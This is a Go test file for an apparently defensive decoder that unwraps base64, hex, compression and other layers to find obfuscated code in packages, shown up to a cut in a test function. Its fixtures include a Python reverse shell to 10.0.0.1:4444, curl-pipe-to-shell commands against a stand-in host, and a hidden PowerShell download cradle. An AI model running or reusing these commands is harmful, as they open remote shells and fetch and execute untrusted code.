package decode

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/ascii85"
	"encoding/base32"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"math/rand"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/ulikunitz/xz"
	"github.com/ulikunitz/xz/lzma"
)

// --- encoders used to build chains at test time ---------------------------

func encB64(b []byte) []byte { return []byte(base64.StdEncoding.EncodeToString(b)) }
func encB64URL(b []byte) []byte {
	return []byte(base64.RawURLEncoding.EncodeToString(b))
}
func encB32(b []byte) []byte { return []byte(base32.StdEncoding.EncodeToString(b)) }
func encHex(b []byte) []byte { return []byte(hex.EncodeToString(b)) }
func encA85(b []byte) []byte {
	out := make([]byte, ascii85.MaxEncodedLen(len(b)))
	return []byte("<~" + string(out[:ascii85.Encode(out, b)]) + "~>")
}

func encZlib(b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func encGzip(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// The lzma/xz encoders use a small dictionary: the default 8 MiB makes
// every call slow, which matters in the fuzz targets.
func encXZ(b []byte) []byte { return encXZConfig(b, xz.WriterConfig{DictCap: 1 << 16}) }

func encXZConfig(b []byte, c xz.WriterConfig) []byte {
	var buf bytes.Buffer
	w, err := c.NewWriter(&buf)
	if err != nil {
		panic(err)
	}
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func encLzma(b []byte) []byte { return encLzmaConfig(b, lzma.WriterConfig{DictCap: 1 << 16}) }

func encLzmaConfig(b []byte, c lzma.WriterConfig) []byte {
	var buf bytes.Buffer
	w, err := c.NewWriter(&buf)
	if err != nil {
		panic(err)
	}
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func encUTF16(s string) []byte {
	u := utf16.Encode([]rune(s))
	out := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(out[2*i:], c)
	}
	return out
}

var encoders = map[string]func([]byte) []byte{
	"base64": encB64, "base64url": encB64URL, "base32": encB32, "hex": encHex,
	"ascii85": encA85, "zlib": encZlib, "gzip": encGzip, "xz": encXZ, "lzma": encLzma,
}

// build applies chain innermost-last: build(p, ["base64","zlib"]) is
// base64(zlib(p)).
func build(payload []byte, chain []string) []byte {
	b, _ := buildNames(payload, chain)
	return b
}

// buildNames is build also returning the chain Peel should report: a
// URL-safe encoding without '-' or '_' is indistinguishable from base64.
func buildNames(payload []byte, chain []string) ([]byte, []string) {
	b := payload
	names := append([]string(nil), chain...)
	for i := len(chain) - 1; i >= 0; i-- {
		b = encoders[chain[i]](b)
		if chain[i] == "base64url" && !bytes.ContainsAny(b, "-_") {
			names[i] = "base64"
		}
	}
	return b, names
}

const code = "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n"

// --- individual decoders ----------------------------------------------------

func TestBase64(t *testing.T) {
	hello := "hello world, this is a test"
	tests := []struct {
		name, in string
		want     string // "" means ok=false
	}{
		{"std padded", base64.StdEncoding.EncodeToString([]byte(hello)), hello},
		{"std unpadded", base64.RawStdEncoding.EncodeToString([]byte(hello)), hello},
		{"url", base64.URLEncoding.EncodeToString([]byte("\xfb\xff\xfe" + hello)), "\xfb\xff\xfe" + hello},
		{"wrapped", wrap(base64.StdEncoding.EncodeToString([]byte(code)), 76, "\n"), code},
		{"indented", wrap(base64.StdEncoding.EncodeToString([]byte(code)), 60, "\n    "), code},
		{"python", pyFixtures["pyZlibB64"], ""}, // checked below: binary zlib
		{"too short", "aGVsbG8gd29y", ""},
		{"word", "Administratorsss", ""},
		{"identifier", "getElementsByTagNameNS", ""},
		{"lower ident", "my_long_variable_name_here", ""},
		{"upper const", "MAX_CONNECTIONS_PER_HOST", ""},
		{"sha256", fmt.Sprintf("%x", sha256.Sum256([]byte("x"))), ""},
		{"sentence", "This is an ordinary sentence with words", ""},
		{"mixed alphabets", "aGVsbG8+d29y_GQsIHRoaXMgaXM=", ""},
		{"pad in middle", "aGVsbG8=d29ybGQsIHRoaXMgaXM=", ""},
		{"too much pad", "aGVsbG8gd29ybGQsIHRoaXMgaXM===", ""},
		{"len%4==1", "aGVsbG8gd29ybGQsIHRoaXMgaXMaa", ""},
		{"bad char", "aGVsbG8gd29ybGQsIHRoaXMgaXM.", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, ok := Base64([]byte(tt.in))
			if tt.name == "python" {
				if !ok || !bytes.HasPrefix(out, []byte{0x78, 0x9c}) {
					t.Fatalf("python zlib base64: ok=%v out=%x", ok, out)
				}
				return
			}
			if ok != (tt.want != "") || string(out) != tt.want {
				t.Fatalf("Base64(%q) = %q, %v; want %q", tt.in, out, ok, tt.want)
			}
		})
	}
}

func wrap(s string, n int, sep string) string {
	var b strings.Builder
	for len(s) > n {
		b.WriteString(s[:n])
		b.WriteString(sep)
		s = s[n:]
	}
	b.WriteString(s)
	return b.String()
}

func TestBase32(t *testing.T) {
	tests := []struct{ in, want string }{
		{pyFixtures["pyB32"], pyPayload},
		{strings.TrimRight(pyFixtures["pyB32"], "="), pyPayload},
		{base32.StdEncoding.EncodeToString([]byte("secret payload!")), "secret payload!"},
		{"ABCDEFGHIJKLMNOPQRSTUVWXYZ", ""},      // no digit
		{"MAX_CONNECTIONS_PER_HOST2", ""},       // underscore
		{"NFWXA33SOQQG64Y", ""},                 // too short
		{"nfwxa33soqqg64ykn5zs443zon2gk3j", ""}, // lower case (strict)
		{"NFWXA33SOQQG64YKN=5ZS443ZON2GK3JI", ""},
	}
	for _, tt := range tests {
		out, ok := Base32([]byte(tt.in))
		if ok != (tt.want != "") || string(out) != tt.want {
			t.Errorf("Base32(%q) = %q, %v; want %q", tt.in, out, ok, tt.want)
		}
	}
}

func TestHex(t *testing.T) {
	p := "import os;os.system('id')"
	h := hex.EncodeToString([]byte(p))
	var esc, spaced, listed strings.Builder
	for i := 0; i < len(p); i++ {
		fmt.Fprintf(&esc, "\\x%02x", p[i])
		fmt.Fprintf(&spaced, "%02X ", p[i])
		fmt.Fprintf(&listed, "0x%02x, ", p[i])
	}
	tests := []struct{ name, in, want string }{
		{"plain", h, p},
		{"upper", strings.ToUpper(h), p},
		{"python fixture", pyFixtures["hexPayload"], pyPayload},
		{"escaped", esc.String(), p},
		{"spaced", spaced.String(), p},
		{"listed", "[" + strings.TrimSuffix(listed.String(), ", ") + "]", ""}, // brackets are not hex
		{"listed bare", strings.TrimSuffix(listed.String(), ", "), p},
		{"0x long", "0x" + h, p},
		{"newlines", h[:20] + "\n" + h[20:], p},
		{"odd", h[1:], ""},
		{"short", "414243", ""},
		{"no decimal", "deadbeefcafebabefacefeed", ""},
		{"decimal list", "40, 41, 42, 43, 44, 45, 46, 47, 48, 49, 50", ""},
		{"uuid", "550e8400-e29b-41d4-a716-446655440000", ""},
		{"bad escape", `\x4g\x41\x42\x43\x44\x45\x46\x47`, ""},
		{"text", "this is not hex at all", ""},
	}
	for _, tt := range tests {
		out, ok := Hex([]byte(tt.in))
		if ok != (tt.want != "") || string(out) != tt.want {
			t.Errorf("%s: Hex(%q) = %q, %v; want %q", tt.name, tt.in, out, ok, tt.want)
		}
	}
	// Digests decode (they are hex) to binary.
	d := fmt.Sprintf("%x", sha256.Sum256([]byte("abc")))
	if out, ok := Hex([]byte(d)); !ok || len(out) != 32 || IsText(out) {
		t.Errorf("sha256 hex: %x %v", out, ok)
	}
}

func TestBase85(t *testing.T) {
	tests := []struct{ in, want string }{
		{pyFixtures["pyB85"], pyPayload},
		{"ThisIsALongIdentifierName", ""},  // no b85-only symbol
		{"X>D+Ca&#bXa|&;BE^~Qv b", ""},     // space
		{"X>D+Ca&#bXa|&;BE^~QvbY*QQ1", ""}, // len%5 == 1
		{"~~~~~~~~~~~~~~~~~~~~", ""},       // overflow
	}
	for _, tt := range tests {
		out, ok := Base85([]byte(tt.in))
		if ok != (tt.want != "") || string(out) != tt.want {
			t.Errorf("Base85(%q) = %q, %v; want %q", tt.in, out, ok, tt.want)
		}
	}
}

func TestASCII85(t *testing.T) {
	tests := []struct{ in, want string }{
		{pyFixtures["pyA85"], pyPayload},
		{pyFixtures["pyA85Adobe"], pyPayload + "\x00\x00\x00\x00tail"},
		{pyFixtures["pyA85Zeros"], "\x00\x00\x00\x00" + pyPayload},
		{"<~87cURD]i,\"Ebo80~>", "Hello World!"},
		{"Hello world this is an English sentence", ""},
		{"ThisIsALongIdentifierName", ""},
		{"Bl.g-Ec`FzBEsci,/ou;ZF", ""}, // z inside a group
		{"<~uuuuu~>", ""},              // overflow
	}
	for _, tt := range tests {
		out, ok := ASCII85([]byte(tt.in))
		if ok != (tt.want != "") || string(out) != tt.want {
			t.Errorf("ASCII85(%q) = %q, %v; want %q", tt.in, out, ok, tt.want)
		}
	}
}

func TestUnicodeEscape(t *testing.T) {
	tests := []struct{ in, want string }{
		{pyFixtures["uescape"], pyPayload},
		{`\x69\x6d\x70ort os`, "import os"},
		{`\u{69}\u{6d}\u{70}ort`, "import"},
		{`\151\155\160ort os`, "import os"},
		{`C:\new\temp\x41`, ""},
		{`plain text with one \x41 escape`, ""},
		{`\u00e9\u00e8\u00ea`, ""},                      // non-ASCII: not hiding code
		{`[\u2010-\u2015\u2212\uFE58\uFE63\uFF0D]`, ""}, // a regular expression
		{`\x4`, ""},
	}
	for _, tt := range tests {
		out, ok := UnicodeEscape([]byte(tt.in))
		if ok != (tt.want != "") || string(out) != tt.want {
			t.Errorf("UnicodeEscape(%q) = %q, %v; want %q", tt.in, out, ok, tt.want)
		}
	}
}

func mustB64(t *testing.T, s string) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestDecompress(t *testing.T) {
	p := []byte(code)
	tests := []struct {
		name string
		in   []byte
	}{
		{"zlib", encZlib(p)},
		{"gzip", encGzip(p)},
		{"xz", encXZ(p)},
		{"xz", encXZConfig(p, xz.WriterConfig{DictCap: 1 << 16, BlockSize: 40, CheckSum: xz.SHA256})}, // many blocks
		{"xz", encXZConfig(p, xz.WriterConfig{DictCap: 1 << 16, NoCheckSum: true})},
		{"lzma", encLzma(p)},
		{"lzma", encLzmaConfig(p, lzma.WriterConfig{DictCap: 1 << 16, SizeInHeader: true, Size: int64(len(p))})},
	}
	for _, lvl := range []int{zlib.NoCompression, zlib.BestSpeed, 2, 5, zlib.BestCompression} {
		var buf bytes.Buffer
		w, _ := zlib.NewWriterLevel(&buf, lvl)
		w.Write(p)
		w.Close()
		tests = append(tests, struct {
			name string
			in   []byte
		}{"zlib", buf.Bytes()})
	}
	for _, tt := range tests {
		name, out, ok := Decompress(tt.in, 0)
		if !ok || name != tt.name || string(out) != code {
			t.Errorf("%s: Decompress = %q, %q, %v", tt.name, name, out, ok)
		}
	}
	py := map[string]string{
		"pyLzmaAlone": "lzma", "pyXZ": "xz", "pyXZcrc64none": "xz", "pyXZsha": "xz",
		"pyXZ9e": "xz", "pyBz2": "bz2", "pyGzip": "gzip", "pyZlibB64": "zlib",
	}
	for fx, want := range py {
		name, out, ok := Decompress(mustB64(t, pyFixtures[fx]), 0)
		exp := pyPayload
		if fx == "pyXZ9e" {
			exp = strings.Repeat(pyPayload, 50)
		}
		if !ok || name != want || string(out) != exp {
			t.Errorf("%s: Decompress = %q, %q, %v", fx, name, out, ok)
		}
	}
	// Negatives: text, truncated and corrupted streams.
	z := encZlib(p)
	bad := append([]byte(nil), z...)
	bad[len(bad)-1] ^= 0xff // adler32
	for name, in := range map[string][]byte{
		"text":      []byte("import os; print('hello world')"),
		"truncated": z[:len(z)/2],
		"checksum":  bad,
		"png":       {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13},
		"empty":     nil,
		"xz trunc":  encXZ(p)[:40],
	} {
		if n, out, ok := Decompress(in, 0); ok {
			t.Errorf("%s: Decompress = %q, %q, true", name, n, out)
		}
	}
}

// TestDecompressBomb checks that output and memory stay bounded.
func TestDecompressBomb(t *testing.T) {
	zeros := make([]byte, 64<<20)
	const lim = 1 << 20
	for name, in := range map[string][]byte{
		"zlib": encZlib(zeros),
		"gzip": encGzip(zeros),
		"xz":   encXZ(zeros[:16<<20]),
		"lzma": encLzma(zeros[:16<<20]),
	} {
		var m0, m1 runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&m0)
		n, out, ok := Decompress(in, lim)
		runtime.ReadMemStats(&m1)
		if !ok || n != name || len(out) != lim {
			t.Errorf("%s: Decompress = %q, %d bytes, %v", name, n, len(out), ok)
		}
		if alloc := m1.TotalAlloc - m0.TotalAlloc; alloc > 5*lim {
			t.Errorf("%s: allocated %d bytes for a %d limit", name, alloc, lim)
		}
	}
}

// TestForgedDictionary: a header claiming a huge dictionary must not make
// the lzma/xz readers allocate it.
func TestForgedDictionary(t *testing.T) {
	const lim = 1 << 20
	// lzma-alone with a 3 GiB dictionary.
	la := encLzma([]byte(code))
	binary.LittleEndian.PutUint32(la[1:5], 3<<30)
	// xz: patch the LZMA2 dictionary code to 40 (4 GiB - 1) and fix the
	// block header CRC.
	x := encXZ([]byte(code))
	hs := (int(x[12]) + 1) * 4
	h := x[12 : 12+hs]
	// The single-filter header is: size, flags, [sizes], 0x21, 0x01, dict.
	i := bytes.Index(h[2:], []byte{0x21, 0x01})
	if i < 0 {
		t.Fatalf("no LZMA2 filter in %x", h)
	}
	h[2+i+2] = 40
	binary.LittleEndian.PutUint32(h[hs-4:], crc32.ChecksumIEEE(h[:hs-4]))
	for name, in := range map[string][]byte{"lzma": la, "xz": x} {
		var m0, m1 runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&m0)
		n, out, ok := Decompress(in, lim)
		runtime.ReadMemStats(&m1)
		if !ok || n != name || string(out) != code {
			t.Errorf("%s: Decompress = %q, %q, %v", name, n, out, ok)
		}
		if alloc := m1.TotalAlloc - m0.TotalAlloc; alloc > 3*lim {
			t.Errorf("%s: allocated %d bytes", name, alloc)
		}
	}
}

func TestUTF16LE(t *testing.T) {
	out, ok := UTF16LE(encUTF16(psPayload))
	if !ok || string(out) != psPayload {
		t.Fatalf("UTF16LE = %q, %v", out, ok)
	}
	out, ok = UTF16LE(encUTF16("Write-Host 'done 😀' -ForegroundColor Green"))
	if !ok || string(out) != "Write-Host 'done 😀' -ForegroundColor Green" {
		t.Fatalf("UTF16LE surrogates = %q, %v", out, ok)
	}
	out, ok = UTF16LE(append([]byte{0xff, 0xfe}, encUTF16("héllo wörld")...))
	if !ok || string(out) != "héllo wörld" {
		t.Fatalf("UTF16LE BOM = %q, %v", out, ok)
	}
	for _, in := range [][]byte{
		[]byte("plain ascii text"),
		encUTF16("中文字符串测试中文字符串测试"), // not mostly ASCII
		{'a', 0, 'b'}, // odd
		{0, 0, 0, 0, 0, 0},
	} {
		if out, ok := UTF16LE(in); ok {
			t.Errorf("UTF16LE(%x) = %q, true", in, out)
		}
	}
}

func TestRot13Reverse(t *testing.T) {
	if got := string(Rot13([]byte("Hello, World! 123"))); got != "Uryyb, Jbeyq! 123" {
		t.Errorf("Rot13 = %q", got)
	}
	if got := string(Rot13(Rot13([]byte(code)))); got != code {
		t.Errorf("Rot13∘Rot13 = %q", got)
	}
	if got := string(Reverse([]byte("abc def"))); got != "fed cba" {
		t.Errorf("Reverse = %q", got)
	}
	if got := string(Reverse([]byte("héllo"))); got != "olléh" {
		t.Errorf("Reverse utf8 = %q", got)
	}
	if got := Reverse([]byte{0xff, 'a', 0xc3}); !bytes.Equal(got, []byte{0xc3, 'a', 0xff}) {
		t.Errorf("Reverse invalid = %x", got)
	}
}

func TestIsText(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"hello world\n", true},
		{"héllo wörld — ünïcödé", true},
		{"", false},
		{"\x00\x01\x02\x03hello", false},
		{string([]byte{0xff, 0xfe, 0xfd, 'a', 'b'}), false},
		{"abcdefghijklmnopqrst\x00", true}, // 1 in 21 is tolerated
	}
	for _, tt := range tests {
		if got := IsText([]byte(tt.in)); got != tt.want {
			t.Errorf("IsText(%q) = %v", tt.in, got)
		}
	}
}

func TestLooksLikeCode(t *testing.T) {
	yes := []string{
		code,
		"import os\nimport sys\n",
		"exec(base64.b64decode('aGVsbG8='))",
		"const x = require('child_process'); x.exec('curl http://a/b | sh')",
		"powershell -nop -w hidden -c IEX(New-Object Net.WebClient)",
		"function f(a){return a+1}",
		"curl -s http://evil.example/x | bash",
	}
	no := []string{
		"",
		"The quick brown fox jumps over the lazy dog.",
		"Thank you for using our package. Please report bugs on the tracker.",
		string(Rot13([]byte(code))),
		string(Reverse([]byte(code))),
		string(Rot13([]byte("import os; os.system('id')"))),
		"\x00\x01binary\x02",
	}
	for _, s := range yes {
		if !LooksLikeCode([]byte(s)) {
			t.Errorf("LooksLikeCode(%q) = false", s)
		}
	}
	for _, s := range no {
		if LooksLikeCode([]byte(s)) {
			t.Errorf("LooksLikeCode(%q) = true", s)
		}
	}
}

func TestMarshalKinds(t *testing.T) {
	z := mustB64(t, pyFixtures["marshalB64"])
	_, m, ok := Decompress(z, 0)
	if !ok || !Marshal(m) || binaryKind(m) != "marshal" {
		t.Fatalf("marshal fixture: ok=%v Marshal=%v kind=%q", ok, Marshal(m), binaryKind(m))
	}
	pyc := mustB64(t, pyFixtures["pycB64"])
	if !Marshal(pyc) || binaryKind(pyc) != "pyc" {
		t.Fatalf("pyc fixture: Marshal=%v kind=%q", Marshal(pyc), binaryKind(pyc))
	}
	rnd := make([]byte, 256)
	rand.New(rand.NewSource(1)).Read(rnd)
	rnd[0] = 'c'
	if Marshal(rnd) || binaryKind(rnd) != "" {
		t.Errorf("random bytes taken for marshal")
	}
	if Marshal([]byte("class Foo: pass # not marshal at all")) {
		t.Errorf("text taken for marshal")
	}
	pe := make([]byte, 0x100)
	copy(pe, "MZ")
	binary.LittleEndian.PutUint32(pe[0x3c:], 0x80)
	copy(pe[0x80:], "PE\x00\x00")
	elf := append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 60)...)
	macho := append([]byte{0xcf, 0xfa, 0xed, 0xfe}, make([]byte, 60)...)
	java := append([]byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52}, make([]byte, 60)...)
	for want, b := range map[string][]byte{"pe": pe, "elf": elf, "macho": macho, "": java} {
		if got := binaryKind(b); got != want {
			t.Errorf("binaryKind(%x...) = %q, want %q", b[:8], got, want)
		}
	}
}

// --- Peel --------------------------------------------------------------------

func TestPeelChains(t *testing.T) {
	p := []byte(code)
	chains := [][]string{
		{"base64"},
		{"base64url"},
		{"base64url", "zlib"},
		{"base32"},
		{"hex"},
		{"ascii85"},
		{"base64", "zlib"},
		{"base64", "gzip"},
		{"base64", "xz"},
		{"base64", "lzma"},
		{"base64", "base64"},
		{"hex", "base64"},
		{"base64", "zlib", "base64"},
		{"base32", "gzip", "hex", "zlib"},
		{"base64", "zlib", "base64", "zlib"},
		{"base64", "zlib", "base64", "zlib", "base64", "zlib"},
		{"base64", "zlib", "base64", "zlib", "base64", "zlib", "base64", "zlib"},
		{"base64", "base64", "base64", "base64", "base64", "base64", "base64", "base64"},
		{"hex", "base64", "base32", "base64", "gzip", "base64url", "xz", "base64"},
	}
	for _, chain := range chains {
		t.Run(strings.Join(chain, "∘"), func(t *testing.T) {
			in, want := buildNames(p, chain)
			l := Peel(in, DefaultLimits())
			if l == nil {
				t.Fatal("Peel = nil")
			}
			if !reflect.DeepEqual(l.Chain, want) || !l.Text || string(l.Data) != code {
				t.Fatalf("Peel = %v text=%v %q", l.Chain, l.Text, l.Data)
			}
			if steps := PeelSteps(build(p, chain), DefaultLimits()); len(steps) != len(chain) ||
				string(steps[len(steps)-1].Data) != code {
				t.Fatalf("PeelSteps = %d steps", len(steps))
			}
		})
	}
}

func TestPeelDepthLimit(t *testing.T) {
	chain := []string{"base64", "base64", "base64", "base64", "base64", "base64"}
	in := build([]byte(code), chain)
	l := Peel(in, Limits{MaxDepth: 3})
	if l == nil || len(l.Chain) != 3 || !l.Text {
		t.Fatalf("MaxDepth 3: %+v", l)
	}
	// Nine layers exceed the default depth: the result stops at 8 steps.
	chain = append(chain, "base64", "base64", "base64")
	l = Peel(build([]byte(code), chain), DefaultLimits())
	if l == nil || len(l.Chain) != 8 {
		t.Fatalf("default depth: %+v", l)
	}
	// Eleven layers whose eighth step leaves a zlib stream: it is reported
	// as binary rather than dropped.
	chain = []string{"hex"}
	for i := 0; i < 5; i++ {
		chain = append(chain, "base64", "zlib")
	}
	l = Peel(build([]byte(code), chain), DefaultLimits())
	if l == nil || !reflect.DeepEqual(l.Chain, chain[:8]) || l.Text || !isZlibHeader(l.Data) {
		t.Fatalf("over-deep chain: %+v", l)
	}
}

func TestPeelFixtures(t *testing.T) {
	tests := []struct {
		fx    string
		chain []string
		data  string
		text  bool
	}{
		{"psEnc", []string{"base64", "utf16le"}, psPayload, true},
		{"pyZlibB64", []string{"base64", "zlib"}, pyPayload, true},
		{"pyXZ", []string{"base64", "xz"}, pyPayload, true},
		{"pyLzmaAlone", []string{"base64", "lzma"}, pyPayload, true},
		{"pyBz2", []string{"base64", "bz2"}, pyPayload, true},
		{"pyGzip", []string{"base64", "gzip"}, pyPayload, true},
		{"pyB85", []string{"base85"}, pyPayload, true},
		{"pyA85", []string{"ascii85"}, pyPayload, true},
		{"pyB32", []string{"base32"}, pyPayload, true},
		{"hexPayload", []string{"hex"}, pyPayload, true},
		{"uescape", []string{"unicode-escape"}, pyPayload, true},
		{"marshalB64", []string{"base64", "zlib", "marshal"}, "", false},
		{"pycB64", []string{"base64", "pyc"}, "", false},
	}
	for _, tt := range tests {
		l := Peel([]byte(pyFixtures[tt.fx]), DefaultLimits())
		if l == nil {
			t.Errorf("%s: Peel = nil", tt.fx)
			continue
		}
		if !reflect.DeepEqual(l.Chain, tt.chain) || l.Text != tt.text || (tt.text && string(l.Data) != tt.data) {
			t.Errorf("%s: Peel = %v text=%v %q", tt.fx, l.Chain, l.Text, l.Data)
		}
	}
}

func TestPeelBinary(t *testing.T) {
	// Compressed binary of no known kind is reported without a pseudo-step.
	rnd := make([]byte, 300)
	rand.New(rand.NewSource(2)).Read(rnd)
	l := Peel(encB64(encZlib(rnd)), DefaultLimits())
	if l == nil || !reflect.DeepEqual(l.Chain, []string{"base64", "zlib"}) || l.Text || !bytes.Equal(l.Data, rnd) {
		t.Fatalf("base64∘zlib(random) = %+v", l)
	}
	// An ELF behind base64 is a recognised kind.
	elf := append([]byte("\x7fELF\x02\x01\x01"), rnd...)
	l = Peel(encB64(elf), DefaultLimits())
	if l == nil || !reflect.DeepEqual(l.Chain, []string{"base64", "elf"}) || l.Text {
		t.Fatalf("base64(elf) = %+v", l)
	}
	// Random binary, PNG images and images behind compression are not
	// interesting.
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), rnd...)
	for name, in := range map[string][]byte{
		"random":      encB64(rnd),
		"random hex":  encHex(rnd[:40]),
		"png":         encB64(png),
		"zlib png":    encB64(encZlib(png)),
		"random b32":  encB32(rnd[:50]),
		"random a85":  encA85(rnd[:50]),
		"random b64u": encB64URL(rnd[:50]),
	} {
		if l := Peel(in, DefaultLimits()); l != nil {
			t.Errorf("%s: Peel = %v", name, l.Chain)
		}
	}
}

// TestPeelNegatives: ordinary strings must not produce a Layer.
func TestPeelNegatives(t *testing.T) {
	var neg []string
	for i := 0; i < 50; i++ {
		s := fmt.Sprint(i)
		neg = append(neg,
			fmt.Sprintf("%x", sha256.Sum256([]byte(s))),
			fmt.Sprintf("%X", sha256.Sum256([]byte(s))),
			fmt.Sprintf("%x", sha1.Sum([]byte(s))),
			fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", i*7919, i, i, i, i*104729),
			fmt.Sprintf("%d%d%d", i*1000003, i*7919, i*104729),
		)
	}
	neg = append(neg,
		"The quick brown fox jumps over the lazy dog",
		"Please report bugs to the issue tracker on GitHub",
		"ThisIsAVeryLongCamelCaseIdentifierName",
		"getElementsByTagNameNS",
		"AbstractSingletonProxyFactoryBean",
		"my_long_snake_case_variable_name",
		"MAX_CONNECTIONS_PER_HOST_DEFAULT",
		"/usr/local/lib/python3.11/site-packages/requests/adapters.py",
		"/home/user/projects/airlock/internal/analyze/decode",
		"C:\\Users\\Administrator\\AppData\\Local\\Temp",
		"https://files.pythonhosted.org/packages/source/r/requests/requests-2.31.0.tar.gz",
		"function(e,t,n){var r=n(12),o=n(34);e.exports=function(e){return r(o(e))}}",
		"a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p",
		"aBcDeFgHiJkLmNoPqRsTuVwXyZ",
		"abcdefghijklmnopqrstuvwxyz0123456789",
		"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567",
		"0123456789abcdef0123456789abcdef",
		"deadbeefcafebabe",
		"1111111111111111111111111111111111",
		"2020202020202020202020202020",
		"UUUUUUUUUUUUUUUUUUUUUUUUUUUUUUUU",
		"================================",
		"++++++++++++++++++++++++++++++++",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", // SRI hash
		"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
		"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmwIDAQAB",
		"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
		"R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7",
		"0x7fffffffffffffff",
		"2023-10-01T12:34:56.789Z",
		"Lorem ipsum dolor sit amet consectetur adipiscing elit",
		"SELECT * FROM users WHERE id = ? AND name = ?",
		"!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
		"zzzzzzzzzzzzzzzzzzzzzzzzz",
		"<~~>",
		`\n\n\n\n\n\n\n\n\n\n`,
		"\\\\server\\share\\folder\\file.txt",
	)
	for _, s := range neg {
		if l := Peel([]byte(s), DefaultLimits()); l != nil {
			t.Errorf("Peel(%q) = %v %q", s, l.Chain, l.Data)
		}
	}
}

// TestPeelEnglishWords: base64-alphabet English words and word pairs.
func TestPeelEnglishWords(t *testing.T) {
	words := strings.Fields(`international responsibilities characteristically
		counterproductive telecommunications internationalization misunderstanding
		Constantinople Massachusetts PennsylvaniaAvenue documentation authentication
		implementation configuration notwithstanding straightforward uncharacteristic`)
	for i, w := range words {
		for _, s := range []string{w, w + words[(i+1)%len(words)], strings.ToUpper(w) + "2024", w + "/" + w} {
			if l := Peel([]byte(s), DefaultLimits()); l != nil {
				t.Errorf("Peel(%q) = %v %q", s, l.Chain, l.Data)
			}
		}
	}
}

func TestPeelHinted(t *testing.T) {
	p := []byte(code)
	tests := []struct {
		name  string
		in    []byte
		hints []string
		chain []string
	}{
		{"reverse b64", []byte(pyFixtures["reversedB64"]), []string{"reverse"}, []string{"reverse", "base64"}},
		{"rot13 b64", []byte(pyFixtures["rot13B64"]), []string{"rot13"}, []string{"rot13", "base64"}},
		{"rot13 code", Rot13(p), []string{"rot13"}, []string{"rot13"}},
		{"reverse code", Reverse(p), []string{"reverse"}, []string{"reverse"}},
		{"reverse zlib b64", Reverse(encB64(encZlib(p))), []string{"reverse"}, []string{"reverse", "base64", "zlib"}},
		{"explicit", encB64(encZlib(p)), []string{"base64", "zlib"}, []string{"base64", "zlib"}},
		{"lenient b64", []byte("aW1wb3J0IG9z"), []string{"base64"}, []string{"base64"}}, // below the strict minimum
		{"short lenient", []byte("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="), []string{"base64"}, []string{"base64"}},
		{"inapplicable hint skipped", encB64(p), []string{"zlib"}, []string{"base64"}},
		{"unknown hint", encB64(p), []string{"frobnicate"}, []string{"base64"}},
		{"deflate", rawDeflate(p), []string{"deflate"}, []string{"deflate"}},
		{"rot13 prose", []byte("Guvf vf whfg fbzr beqvanel Ratyvfu cebfr."), []string{"rot13"}, nil},
		{"reverse prose", []byte("esorp hsilgnE yranidro emos tsuj si sihT"), []string{"reverse"}, nil},
		{"rot13 wrong", []byte("just some ordinary English prose, nothing else"), []string{"rot13"}, nil},
		{"wrong hint falls back", encHex(p), []string{"base64"}, []string{"hex"}},
	}
	for _, tt := range tests {
